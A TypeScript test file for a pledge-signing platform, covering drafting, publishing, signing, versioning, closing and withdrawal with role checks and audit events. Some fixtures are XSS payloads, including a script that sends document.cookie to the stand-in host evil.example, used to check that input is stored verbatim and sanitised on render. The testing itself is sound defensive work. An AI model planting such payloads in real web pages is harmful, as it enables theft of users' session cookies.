import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anonymous } from '../../app/domain/actor.server';
import { verifyAuditChain } from '../../app/domain/audit.server';
import { ConflictError, ForbiddenError, NotAuthenticatedError, NotFoundError, ValidationError } from '../../app/domain/errors.server';
import { confirmationPhrases, renewalDue, signatureStatus } from '../../app/domain/pledge-rules';
import {
  closePledge,
  createPledgeDraft,
  currentSignature,
  publishPledge,
  publishPledgeVersion,
  renewPledgeSignature,
  signPledge,
  withdrawPledgeSignature,
} from '../../app/domain/pledges.server';
import { registerEntriesOf } from '../../app/domain/pledge-register.server';
import { signatureCounts } from '../../app/domain/pledge-queries.server';
import { type TestDatabase, createTestDatabase } from '../helpers/db';
import { ctxFor, makeOrganization, makeUser } from '../helpers/fixtures';
import { PLEDGE_BODY, at, confirmationFor, draftInput, makePledge, memberWithCtx, platformAdmin, rejectionOf, writeCounts } from '../helpers/pledges';

let t: TestDatabase;
beforeAll(async () => {
  t = await createTestDatabase();
});
afterAll(async () => t?.close());

const pledgeEvents = (pledgeId: string) => t.db.auditEvent.findMany({ where: { subjectId: pledgeId }, orderBy: { seq: 'asc' } });
const actionsOf = async (pledgeId: string) => (await pledgeEvents(pledgeId)).map((e) => e.action);
const signInput = (pledgeId: string, organization: { id: string; name: string }, extra: Record<string, unknown> = {}) => ({
  pledgeId,
  organizationId: organization.id,
  confirmation: confirmationFor(organization),
  ...extra,
});
const REPORT = 'We published every fee schedule and trained 120 officers on the code of conduct.';

/** Run a command that must be refused (started only after counting); check the error and that nothing at all was written. */
async function expectRefused(run: () => Promise<unknown>, errorClass: new (...args: any[]) => Error) {
  const before = await writeCounts(t.db);
  const error = await rejectionOf(run());
  expect(error).toBeInstanceOf(errorClass);
  expect(await writeCounts(t.db)).toEqual(before);
  return error;
}

describe('drafting and publishing', () => {
  it('a platform administrator drafts a pledge and publishes it as version 1, audited', async () => {
    const { user: admin, ctx } = await platformAdmin(t.db);
    const body = `${PLEDGE_BODY}\n\n<script>alert("pwned")</script><img src=x onerror="alert(1)">`;
    const draft = await createPledgeDraft(
      ctx,
      draftInput({
        title: 'Zero tolerance for facilitation payments',
        body,
        factors: ['TRANSPARENCY', 'AUTOMATION', 'TRANSPARENCY'],
        audience: 'CUSTOMS',
        renewalMonths: 6,
      }),
    );
    expect(draft).toMatchObject({
      status: 'DRAFT',
      currentVersion: 0,
      audience: 'CUSTOMS',
      renewalMonths: 6,
      ownerOrganizationId: null,
      createdById: admin.id,
      publishedAt: null,
    });
    expect(draft.body).toBe(body);
    expect(draft.factors).toEqual(['TRANSPARENCY', 'AUTOMATION']);
    expect(draft.slug).toMatch(/^zero-tolerance-for-facilitation-payments/);
    expect(await t.db.pledgeVersion.count({ where: { pledgeId: draft.id } })).toBe(0);

    const published = await publishPledge(ctx, { pledgeId: draft.id });
    expect(published).toMatchObject({ id: draft.id, status: 'PUBLISHED', currentVersion: 1 });
    expect(published.publishedAt).toBeInstanceOf(Date);
    const versions = await t.db.pledgeVersion.findMany({ where: { pledgeId: draft.id } });
    expect(versions).toHaveLength(1);
    expect(versions[0]).toMatchObject({ number: 1, title: draft.title, body, factors: ['TRANSPARENCY', 'AUTOMATION'], publishedById: admin.id });

    const events = await pledgeEvents(draft.id);
    expect(events.map((e) => e.action)).toEqual(['pledge.drafted', 'pledge.published']);
    for (const event of events) expect(event).toMatchObject({ subjectType: 'Pledge', subjectId: draft.id, actorId: admin.id });
    expect(events[1].data).toMatchObject({ version: 1, versionId: versions[0].id });
  });

  it('partner organisations draft and publish through their ORG_ADMIN or SIGNATORY', async () => {
    const partner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const { user: partnerAdmin, ctx: adminCtx } = await memberWithCtx(t.db, partner.id, 'ORG_ADMIN');
    const { ctx: signatoryCtx } = await memberWithCtx(t.db, partner.id, 'SIGNATORY');

    const byAdmin = await createPledgeDraft(adminCtx, draftInput({ ownerOrganizationId: partner.id, title: 'Fair fees at the border' }));
    expect(byAdmin).toMatchObject({ ownerOrganizationId: partner.id, createdById: partnerAdmin.id, status: 'DRAFT' });
    const bySignatory = await createPledgeDraft(signatoryCtx, draftInput({ ownerOrganizationId: partner.id, title: 'Open customs data', renewalMonths: null }));
    expect(bySignatory.renewalMonths).toBeNull();
    // Different pledges with the same title get different slugs.
    const sameTitle = await createPledgeDraft(adminCtx, draftInput({ ownerOrganizationId: partner.id, title: 'Fair fees at the border' }));
    expect(byAdmin.slug).toBe('fair-fees-at-the-border');
    expect(sameTitle.slug).toBe('fair-fees-at-the-border-2');

    await publishPledge(signatoryCtx, { pledgeId: byAdmin.id });
    await publishPledge(adminCtx, { pledgeId: bySignatory.id });
    const drafted = await t.db.auditEvent.findFirstOrThrow({ where: { action: 'pledge.drafted', subjectId: byAdmin.id } });
    expect(drafted).toMatchObject({ subjectType: 'Pledge', organizationId: partner.id });
    expect(await actionsOf(byAdmin.id)).toEqual(['pledge.drafted', 'pledge.published']);
  });

  it('nobody else drafts: members and liaison officers of partners, customs and business organisations, plain users, strangers', async () => {
    const partner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const otherPartner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const customs = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION' });
    const business = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION' });
    for (const role of ['MEMBER', 'LIAISON_OFFICER'] as const) {
      const { ctx } = await memberWithCtx(t.db, partner.id, role);
      await expectRefused(() => createPledgeDraft(ctx, draftInput({ ownerOrganizationId: partner.id })), ForbiddenError);
    }
    for (const org of [customs, business]) {
      for (const role of ['ORG_ADMIN', 'SIGNATORY'] as const) {
        const { ctx } = await memberWithCtx(t.db, org.id, role);
        await expectRefused(() => createPledgeDraft(ctx, draftInput({ ownerOrganizationId: org.id })), ForbiddenError);
        await expectRefused(() => createPledgeDraft(ctx, draftInput()), ForbiddenError);
      }
    }
    const { ctx: otherPartnerAdmin } = await memberWithCtx(t.db, otherPartner.id, 'ORG_ADMIN');
    await expectRefused(() => createPledgeDraft(otherPartnerAdmin, draftInput({ ownerOrganizationId: partner.id })), ForbiddenError);
    // A partner's admin drafts for the partner, not on the platform's behalf.
    await expectRefused(() => createPledgeDraft(otherPartnerAdmin, draftInput()), ForbiddenError);
    const plain = await makeUser(t.db);
    const plainCtx = await ctxFor(t.db, plain.id);
    await expectRefused(() => createPledgeDraft(plainCtx, draftInput()), ForbiddenError);
    await expectRefused(() => createPledgeDraft({ db: t.db, actor: anonymous }, draftInput()), NotAuthenticatedError);
  });

  it('validates drafts: title, body, at least one key factor, audience, a renewal period of 1 to 60 months', async () => {
    const { ctx } = await platformAdmin(t.db);
    const fieldsOf = async (input: Record<string, unknown>) =>
      (await expectRefused(() => createPledgeDraft(ctx, draftInput(input)), ValidationError)).fieldErrors;
    expect(await fieldsOf({ factors: [] })).toEqual({ factors: ['errors.chooseFactors'] });
    expect(await fieldsOf({ factors: ['NOT_A_FACTOR'] })).toEqual({ 'factors.0': ['errors.choose'] });
    expect(await fieldsOf({ audience: 'PARTNER' })).toEqual({ audience: ['errors.choose'] });
    expect(await fieldsOf({ renewalMonths: 0 })).toEqual({ renewalMonths: ['errors.renewalMonths'] });
    expect(await fieldsOf({ renewalMonths: 61 })).toEqual({ renewalMonths: ['errors.renewalMonths'] });
    expect(await fieldsOf({ renewalMonths: 2.5 })).toEqual({ renewalMonths: ['errors.renewalMonths'] });
    // The generic length messages carry their limit ("At least 5 characters"); `count` picks the plural form.
    expect(await fieldsOf({ title: 'Hi' })).toEqual({ title: [{ key: 'errors.tooShort', params: { min: 5, count: 5 } }] });
    expect(await fieldsOf({ body: 'Too short.' })).toEqual({ body: [{ key: 'errors.tooShort', params: { min: 20, count: 20 } }] });
    expect(await fieldsOf({ title: 'T'.repeat(201) })).toEqual({ title: [{ key: 'errors.tooLong', params: { max: 200, count: 200 } }] });
    expect(await fieldsOf({ ownerOrganizationId: 'no-such-organisation' })).toEqual({ ownerOrganizationId: ['errors.notFound'] });
    for (const renewalMonths of [1, 60]) {
      expect((await createPledgeDraft(ctx, draftInput({ renewalMonths }))).renewalMonths).toBe(renewalMonths);
    }
  });

  it('publishes once; only its managers publish it', async () => {
    const partner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const otherPartner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const { ctx: ownerCtx } = await memberWithCtx(t.db, partner.id, 'ORG_ADMIN');
    const draft = await createPledgeDraft(ownerCtx, draftInput({ ownerOrganizationId: partner.id }));
    const { ctx: stranger } = await memberWithCtx(t.db, otherPartner.id, 'ORG_ADMIN');
    const { ctx: member } = await memberWithCtx(t.db, partner.id, 'MEMBER');
    // A draft is hidden from those who may not manage it: to them it does not exist.
    await expectRefused(() => publishPledge(stranger, { pledgeId: draft.id }), NotFoundError);
    await expectRefused(() => publishPledge(member, { pledgeId: draft.id }), NotFoundError);
    await expectRefused(() => publishPledge(ownerCtx, { pledgeId: 'no-such-pledge' }), NotFoundError);
    // A platform administrator manages every pledge.
    const { ctx: adminCtx } = await platformAdmin(t.db);
    await publishPledge(adminCtx, { pledgeId: draft.id });
    await expectRefused(() => publishPledge(ownerCtx, { pledgeId: draft.id }), ConflictError);
    expect(await t.db.pledgeVersion.count({ where: { pledgeId: draft.id } })).toBe(1);
  });

  it('drafts pledges with Russian titles (more than twenty of them)', async () => {
    const { ctx } = await platformAdmin(t.db);
    const subjects = [
      'прозрачности',
      'подарках',
      'конфликте интересов',
      'ротации кадров',
      'декларации доходов',
      'проверках',
      'жалобах',
      'сроках',
      'сборах',
      'платежах',
      'досмотре',
    ];
    const titles = [...subjects.map((s) => `Обязательство о ${s}`), ...subjects.map((s) => `Кодекс о ${s}`)];
    expect(titles.length).toBeGreaterThan(20);
    const slugs: string[] = [];
    for (const title of titles) slugs.push((await createPledgeDraft(ctx, draftInput({ title }))).slug);
    expect(new Set(slugs).size).toBe(titles.length);
  });
});

describe('signing', () => {
  it("an organisation's SIGNATORY or ORG_ADMIN signs the current version, with the typed confirmation", async () => {
    const { pledge } = await makePledge(t.db, { audience: 'BOTH' });
    const business = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION' });
    const customs = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Таможня Республики' });
    const { user: signatory, ctx: signatoryCtx } = await memberWithCtx(t.db, business.id, 'SIGNATORY');
    const { user: customsAdmin, ctx: customsAdminCtx } = await memberWithCtx(t.db, customs.id, 'ORG_ADMIN');
    const version1 = await t.db.pledgeVersion.findUniqueOrThrow({ where: { pledgeId_number: { pledgeId: pledge.id, number: 1 } } });

    const first = await signPledge(signatoryCtx, signInput(pledge.id, business, { statement: 'We commit to publishing all our fees.' }));
    expect(first).toMatchObject({
      pledgeId: pledge.id,
      versionId: version1.id,
      organizationId: business.id,
      signedById: signatory.id,
      statement: 'We commit to publishing all our fees.',
      withdrawnAt: null,
      supersededAt: null,
    });
    expect(first.lastRenewedAt.getTime()).toBe(first.signedAt.getTime());
    // The Russian sentence (feminine form), with no statement.
    const second = await signPledge(customsAdminCtx, signInput(pledge.id, customs, { confirmation: 'Я уполномочена подписать от имени Таможня Республики.' }));
    expect(second).toMatchObject({ organizationId: customs.id, signedById: customsAdmin.id, statement: null });
    expect((await currentSignature(signatoryCtx, pledge.id, business.id))?.id).toBe(first.id);

    const signed = await t.db.auditEvent.findMany({ where: { subjectId: pledge.id, action: 'pledge.signed' }, orderBy: { seq: 'asc' } });
    expect(signed).toHaveLength(2);
    expect(signed[0]).toMatchObject({ subjectType: 'Pledge', organizationId: business.id, actorId: signatory.id });
    expect(signed[0].data).toMatchObject({ signatureId: first.id, version: 1, statement: 'We commit to publishing all our fees.', previousVersion: null });
    expect(signed[1]).toMatchObject({ organizationId: customs.id, actorId: customsAdmin.id });
  });

  it('stores HTML and script in the statement verbatim (sanitising happens on render)', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const statement = '<script>document.location="https://evil.example/?c="+document.cookie</script><b onmouseover="alert(1)">We sign</b> & <i>commit</i>';
    const signature = await signPledge(ctx, signInput(pledge.id, org, { statement }));
    expect(signature.statement).toBe(statement);
    expect((await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id } })).statement).toBe(statement);
    const event = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.signed' } });
    expect((event.data as { statement: string }).statement).toBe(statement);
  });

  it('MEMBER and LIAISON_OFFICER cannot sign; nor can outsiders or platform administrators', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const other = await makeOrganization(t.db);
    for (const role of ['MEMBER', 'LIAISON_OFFICER'] as const) {
      const { ctx } = await memberWithCtx(t.db, org.id, role);
      await expectRefused(() => signPledge(ctx, signInput(pledge.id, org)), ForbiddenError);
    }
    for (const role of ['SIGNATORY', 'ORG_ADMIN'] as const) {
      const { ctx } = await memberWithCtx(t.db, other.id, role);
      await expectRefused(() => signPledge(ctx, signInput(pledge.id, org)), ForbiddenError);
    }
    const { ctx: adminCtx } = await platformAdmin(t.db);
    await expectRefused(() => signPledge(adminCtx, signInput(pledge.id, org)), ForbiddenError);
    const plain = await makeUser(t.db);
    const plainCtx = await ctxFor(t.db, plain.id);
    await expectRefused(() => signPledge(plainCtx, signInput(pledge.id, org)), ForbiddenError);
    await expectRefused(() => signPledge({ db: t.db, actor: anonymous }, signInput(pledge.id, org)), NotAuthenticatedError);
    expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id } })).toBe(0);
  });

  it('partners never sign, and the audience decides which kinds of organisation may (ValidationError on organizationId)', async () => {
    const customsOnly = (await makePledge(t.db, { audience: 'CUSTOMS' })).pledge;
    const businessOnly = (await makePledge(t.db, { audience: 'BUSINESS' })).pledge;
    const both = (await makePledge(t.db, { audience: 'BOTH' })).pledge;
    const customs = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION' });
    const business = await makeOrganization(t.db, { kind: 'BUSINESS_ASSOCIATION' });
    const partner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const { ctx: customsCtx } = await memberWithCtx(t.db, customs.id, 'SIGNATORY');
    const { ctx: businessCtx } = await memberWithCtx(t.db, business.id, 'ORG_ADMIN');
    const { ctx: partnerCtx } = await memberWithCtx(t.db, partner.id, 'ORG_ADMIN');

    for (const [ctx, pledge, org] of [
      [businessCtx, customsOnly, business],
      [customsCtx, businessOnly, customs],
      [partnerCtx, both, partner],
      [partnerCtx, customsOnly, partner],
      [partnerCtx, businessOnly, partner],
    ] as const) {
      const error = await expectRefused(() => signPledge(ctx, signInput(pledge.id, org)), ValidationError);
      expect(Object.keys(error.fieldErrors)).toEqual(['organizationId']);
    }
    await signPledge(customsCtx, signInput(customsOnly.id, customs));
    await signPledge(businessCtx, signInput(businessOnly.id, business));
    await signPledge(customsCtx, signInput(both.id, customs));
    await signPledge(businessCtx, signInput(both.id, business));
  });

  it('refuses a wrong or missing confirmation', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db, { name: 'Almaty Freight Forwarders' });
    const other = await makeOrganization(t.db, { name: 'Astana Freight Forwarders' });
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    for (const confirmation of ['yes', 'Almaty Freight Forwarders', confirmationFor(other), confirmationPhrases(other.name).ru, 'I am authorised to sign']) {
      const error = await expectRefused(() => signPledge(ctx, signInput(pledge.id, org, { confirmation })), ValidationError);
      expect(error.fieldErrors).toEqual({ confirmation: ['errors.confirmation'] });
    }
    const missing = await expectRefused(() => signPledge(ctx, { pledgeId: pledge.id, organizationId: org.id }), ValidationError);
    expect(missing.fieldErrors).toEqual({ confirmation: ['errors.confirmation'] });
  });

  it('accepts the sentence naming the organisation as the page showed it: its registered name or its translation', async () => {
    const { pledge } = await makePledge(t.db);
    const registered = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION', name: 'Steppe Customs Service' });
    const org = await t.db.organization.update({
      where: { id: registered.id },
      data: { translations: { ru: { name: 'Степная таможенная служба', description: 'Таможня.' } } },
    });
    const other = await makeOrganization(t.db, { kind: 'CUSTOMS_ADMINISTRATION' });
    await t.db.organization.update({ where: { id: other.id }, data: { translations: { ru: { name: 'Другая таможня' } } } });
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const { ctx: otherCtx } = await memberWithCtx(t.db, other.id, 'SIGNATORY');
    // What the Russian page shows: the Russian sentence with the Russian name.
    const shown = confirmationPhrases(org);
    expect(shown).toEqual({
      en: 'I am authorised to sign for Steppe Customs Service',
      ru: 'Я уполномочен подписать от имени Степная таможенная служба',
    });
    // Another organisation's names, or half of a name, confirm nothing.
    for (const confirmation of [
      'Я уполномочен подписать от имени Другая таможня',
      'I am authorised to sign for Другая таможня',
      'Я уполномочен подписать от имени Степная таможенная',
    ]) {
      const error = await expectRefused(() => signPledge(ctx, signInput(pledge.id, org, { confirmation })), ValidationError);
      expect(error.fieldErrors).toEqual({ confirmation: ['errors.confirmation'] });
    }
    await expectRefused(() => signPledge(otherCtx, signInput(pledge.id, other, { confirmation: shown.ru })), ValidationError);
    const signature = await signPledge(ctx, signInput(pledge.id, org, { confirmation: shown.ru }));
    expect(signature.organizationId).toBe(org.id);
    // The registered name in the Russian sentence, and the English sentence with the Russian name, confirm too.
    for (const confirmation of ['Я уполномочена подписать от имени Steppe Customs Service', 'I am authorised to sign for Степная таможенная служба.']) {
      const { pledge: next } = await makePledge(t.db);
      expect((await signPledge(ctx, signInput(next.id, org, { confirmation }))).pledgeId).toBe(next.id);
    }
  });

  it('signing the same version twice is a conflict and writes nothing', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const { ctx: signatory } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const { ctx: orgAdmin } = await memberWithCtx(t.db, org.id, 'ORG_ADMIN');
    await signPledge(signatory, signInput(pledge.id, org));
    const error = await expectRefused(() => signPledge(signatory, signInput(pledge.id, org)), ConflictError);
    expect(error.message).toBe('errors.alreadySigned');
    // Another signatory of the same organisation: the organisation has signed already.
    await expectRefused(() => signPledge(orgAdmin, signInput(pledge.id, org, { statement: 'Again' })), ConflictError);
    expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id, organizationId: org.id } })).toBe(1);
  });

  it('a CLOSED pledge cannot be signed; a draft (hidden) and an unknown one are not found', async () => {
    const { pledge: draft } = await makePledge(t.db, { publish: false });
    const { pledge: closed, adminCtx } = await makePledge(t.db);
    await closePledge(adminCtx, { pledgeId: closed.id });
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    // A draft is hidden from the signatory: not found, as an unknown pledge.
    await expectRefused(() => signPledge(ctx, signInput(draft.id, org)), NotFoundError);
    await expectRefused(() => signPledge(ctx, signInput(closed.id, org)), ConflictError);
    await expectRefused(() => signPledge(ctx, signInput('no-such-pledge', org)), NotFoundError);
    expect(await t.db.pledgeSignature.count({ where: { organizationId: org.id } })).toBe(0);
  });

  it('two signatories of one organisation signing at the same moment: exactly one signature', async () => {
    const { pledge } = await makePledge(t.db);
    for (let round = 0; round < 3; round++) {
      const org = await makeOrganization(t.db);
      const { ctx: a } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
      const { ctx: b } = await memberWithCtx(t.db, org.id, 'ORG_ADMIN');
      const audits = await t.db.auditEvent.count();
      const results = await Promise.allSettled([
        signPledge(a, signInput(pledge.id, org, { statement: 'A' })),
        signPledge(b, signInput(pledge.id, org, { statement: 'B' })),
      ]);
      const fulfilled = results.filter((r) => r.status === 'fulfilled');
      const rejected = results.filter((r): r is PromiseRejectedResult => r.status === 'rejected');
      expect(fulfilled).toHaveLength(1);
      expect(rejected).toHaveLength(1);
      expect(rejected[0].reason).toBeInstanceOf(ConflictError);
      expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id, organizationId: org.id } })).toBe(1);
      expect(await t.db.auditEvent.count()).toBe(audits + 1);
    }
    expect(await verifyAuditChain(t.db)).toMatchObject({ ok: true });
  });

  it('the database itself keeps one current signature per organisation and pledge (partial unique index)', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const { user, ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const signature = await signPledge(ctx, signInput(pledge.id, org));
    const row = {
      pledgeId: pledge.id,
      versionId: signature.versionId,
      organizationId: org.id,
      signedById: user.id,
      signedAt: new Date(),
      lastRenewedAt: new Date(),
    };
    // What signPledge turns into a ConflictError: a P2002 unique violation.
    expect(await rejectionOf(t.db.pledgeSignature.create({ data: row }))).toMatchObject({ code: 'P2002' });
    // Withdrawn and superseded signatures do not count.
    await t.db.pledgeSignature.create({ data: { ...row, withdrawnAt: new Date(), withdrawalReason: 'Kept in the register.' } });
    await t.db.pledgeSignature.create({ data: { ...row, supersededAt: new Date() } });
    expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id, organizationId: org.id } })).toBe(3);
    // And a renewal period outside 1..60 months is refused by a CHECK constraint.
    await expect(t.db.pledge.update({ where: { id: pledge.id }, data: { renewalMonths: 61 } })).rejects.toThrow();
    await expect(t.db.pledge.update({ where: { id: pledge.id }, data: { renewalMonths: 0 } })).rejects.toThrow();
  });
});

describe('versions and re-signing', () => {
  it('a new version leaves signatures on the version signed; re-signing supersedes the old signature', async () => {
    const { pledge, adminCtx } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const late = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const { ctx: lateCtx } = await memberWithCtx(t.db, late.id, 'ORG_ADMIN');
    const v1Signature = await signPledge(ctx, signInput(pledge.id, org));

    const body2 = `${PLEDGE_BODY}\n\nWe also publish waiting times at every border post.`;
    const v2 = await publishPledgeVersion(adminCtx, {
      pledgeId: pledge.id,
      title: 'Zero tolerance, version two',
      body: body2,
      factors: ['TRANSPARENCY'],
      changeNote: 'Waiting times',
    });
    expect(v2).toMatchObject({
      pledgeId: pledge.id,
      number: 2,
      title: 'Zero tolerance, version two',
      body: body2,
      factors: ['TRANSPARENCY'],
      changeNote: 'Waiting times',
    });
    expect(await t.db.pledge.findUniqueOrThrow({ where: { id: pledge.id } })).toMatchObject({ currentVersion: 2, status: 'PUBLISHED' });
    const v1 = await t.db.pledgeVersion.findUniqueOrThrow({ where: { pledgeId_number: { pledgeId: pledge.id, number: 1 } } });
    expect(v1.title).toBe(pledge.title); // published versions never change
    const versioned = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.version_published' } });
    expect(versioned).toMatchObject({ subjectType: 'Pledge' });
    expect(versioned.data).toMatchObject({ version: 2, versionId: v2.id, changeNote: 'Waiting times', signatoriesInvitedToReSign: 1 });

    // The existing signature stays on version 1 and is still the organisation's current one.
    expect(await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: v1Signature.id } })).toMatchObject({
      versionId: v1.id,
      supersededAt: null,
      withdrawnAt: null,
    });
    expect((await currentSignature(ctx, pledge.id, org.id))?.version.number).toBe(1);

    // New signatures go to version 2.
    expect((await signPledge(lateCtx, signInput(pledge.id, late))).versionId).toBe(v2.id);

    // Re-signing: a new signature of version 2; the version 1 signature is kept, superseded.
    const v2Signature = await signPledge(ctx, signInput(pledge.id, org, { statement: 'Re-signed' }));
    expect(v2Signature).toMatchObject({ versionId: v2.id, organizationId: org.id, supersededAt: null });
    const old = await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: v1Signature.id } });
    expect(old.versionId).toBe(v1.id);
    expect(old.supersededAt?.getTime()).toBe(v2Signature.signedAt.getTime());
    expect((await currentSignature(ctx, pledge.id, org.id))?.id).toBe(v2Signature.id);
    expect(await t.db.pledgeSignature.count({ where: { pledgeId: pledge.id, organizationId: org.id } })).toBe(2);
    const resigned = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.resigned' } });
    expect(resigned).toMatchObject({ subjectType: 'Pledge', organizationId: org.id });
    expect(resigned.data).toMatchObject({ signatureId: v2Signature.id, version: 2, previousVersion: 1 });

    await expectRefused(() => signPledge(ctx, signInput(pledge.id, org)), ConflictError);
    // The superseded signature can no longer be withdrawn or renewed.
    await expectRefused(() => withdrawPledgeSignature(ctx, { signatureId: v1Signature.id, reason: 'We changed our minds.' }), ConflictError);
    await expectRefused(() => renewPledgeSignature(ctx, { signatureId: v1Signature.id, report: REPORT }), ConflictError);
  });

  it('signs only the version the signatory read: a version published meanwhile is a conflict and nothing is written', async () => {
    const { pledge, adminCtx } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    // The signatory opened the sign page at version 1; version 2 is published before they send it.
    await publishPledgeVersion(adminCtx, { pledgeId: pledge.id, title: 'Version two of it', body: PLEDGE_BODY, factors: ['AUTOMATION'] });
    const stale = await expectRefused(() => signPledge(ctx, signInput(pledge.id, org, { versionNumber: 1 })), ConflictError);
    expect(stale.message).toBe('errors.pledgeVersionChanged');
    // A version that does not exist yet is not the one current either.
    await expectRefused(() => signPledge(ctx, signInput(pledge.id, org, { versionNumber: 3 })), ConflictError);
    for (const versionNumber of [0, 1.5, 'two']) {
      const bad = await expectRefused(() => signPledge(ctx, signInput(pledge.id, org, { versionNumber })), ValidationError);
      expect(bad.fieldErrors).toEqual({ versionNumber: ['errors.invalid'] });
    }
    // Having read version 2, they sign it.
    const signature = await signPledge(ctx, signInput(pledge.id, org, { versionNumber: 2 }));
    expect((await t.db.pledgeVersion.findUniqueOrThrow({ where: { id: signature.versionId } })).number).toBe(2);
  });

  it('versions are published only for published pledges, by their managers, and are validated', async () => {
    const partner = await makeOrganization(t.db, { kind: 'PARTNER' });
    const { ctx: ownerCtx } = await memberWithCtx(t.db, partner.id, 'SIGNATORY');
    const { ctx: memberCtx } = await memberWithCtx(t.db, partner.id, 'MEMBER');
    const draft = await createPledgeDraft(ownerCtx, draftInput({ ownerOrganizationId: partner.id }));
    const next = (pledgeId: string, extra: Record<string, unknown> = {}) => ({
      pledgeId,
      title: 'Version two of it',
      body: PLEDGE_BODY,
      factors: ['AUTOMATION'],
      ...extra,
    });
    await expectRefused(() => publishPledgeVersion(ownerCtx, next(draft.id)), ConflictError);
    await publishPledge(ownerCtx, { pledgeId: draft.id });
    await expectRefused(() => publishPledgeVersion(memberCtx, next(draft.id)), ForbiddenError);
    const { ctx: otherAdmin } = await memberWithCtx(t.db, (await makeOrganization(t.db, { kind: 'PARTNER' })).id, 'ORG_ADMIN');
    await expectRefused(() => publishPledgeVersion(otherAdmin, next(draft.id)), ForbiddenError);
    const invalid = await expectRefused(() => publishPledgeVersion(ownerCtx, next(draft.id, { factors: [] })), ValidationError);
    expect(invalid.fieldErrors).toEqual({ factors: ['errors.chooseFactors'] });
    expect((await publishPledgeVersion(ownerCtx, next(draft.id))).number).toBe(2);
    expect((await publishPledgeVersion(ownerCtx, next(draft.id, { title: 'Version three of it' }))).number).toBe(3);
    await closePledge(ownerCtx, { pledgeId: draft.id });
    await expectRefused(() => publishPledgeVersion(ownerCtx, next(draft.id)), ConflictError);
    expect(await actionsOf(draft.id)).toEqual(['pledge.drafted', 'pledge.published', 'pledge.version_published', 'pledge.version_published', 'pledge.closed']);
  });
});

describe('closing', () => {
  it('closing stops new signatures; existing ones stay', async () => {
    const { pledge, adminCtx } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const later = await makeOrganization(t.db);
    const { ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const { ctx: laterCtx } = await memberWithCtx(t.db, later.id, 'SIGNATORY');
    const signature = await signPledge(ctx, signInput(pledge.id, org));
    const { ctx: memberCtx } = await memberWithCtx(t.db, org.id, 'MEMBER');
    await expectRefused(() => closePledge(memberCtx, { pledgeId: pledge.id }), ForbiddenError);
    await expectRefused(() => closePledge(ctx, { pledgeId: pledge.id }), ForbiddenError); // a signatory of a signing organisation does not manage the pledge

    const closed = await closePledge(adminCtx, { pledgeId: pledge.id });
    expect(closed).toMatchObject({ status: 'CLOSED' });
    expect(closed.closedAt).toBeInstanceOf(Date);
    const event = await t.db.auditEvent.findFirstOrThrow({ where: { subjectId: pledge.id, action: 'pledge.closed' } });
    expect(event.subjectType).toBe('Pledge');

    const error = await expectRefused(() => signPledge(laterCtx, signInput(pledge.id, later)), ConflictError);
    expect(error.message).toBe('errors.pledgeClosed');
    expect(await t.db.pledgeSignature.findUniqueOrThrow({ where: { id: signature.id } })).toMatchObject({ withdrawnAt: null, supersededAt: null });
    await expectRefused(() => closePledge(adminCtx, { pledgeId: pledge.id }), ConflictError);
    await expectRefused(() => publishPledge(adminCtx, { pledgeId: pledge.id }), ConflictError);
    // A signature can still be withdrawn from a closed pledge.
    await withdrawPledgeSignature(ctx, { signatureId: signature.id, reason: 'The programme has ended.' });
  });
});

describe('withdrawal', () => {
  it('withdraws with a reason; withdrawing twice is a conflict', async () => {
    const { pledge } = await makePledge(t.db);
    const org = await makeOrganization(t.db);
    const { user: signatory, ctx } = await memberWithCtx(t.db, org.id, 'SIGNATORY');
    const { user: orgAdmin, ctx: adminCtx } = await memberWithCtx(t.db, org.id, 'ORG_ADMIN');
    const signature = await signPledge(ctx, signInput(pledge.id, org));
    const reason = 'Our board decided to <b>leave</b> the programme.';

    const withdrawn = await withdrawPledgeSignature(adminCtx, { signatureId: signature.id, reason });
    expect(withdrawn).toMatchObject({ id: signature.id, withdrawalReason: reason, withdrawnById: orgAdmin.id, signedById: signatory.id });
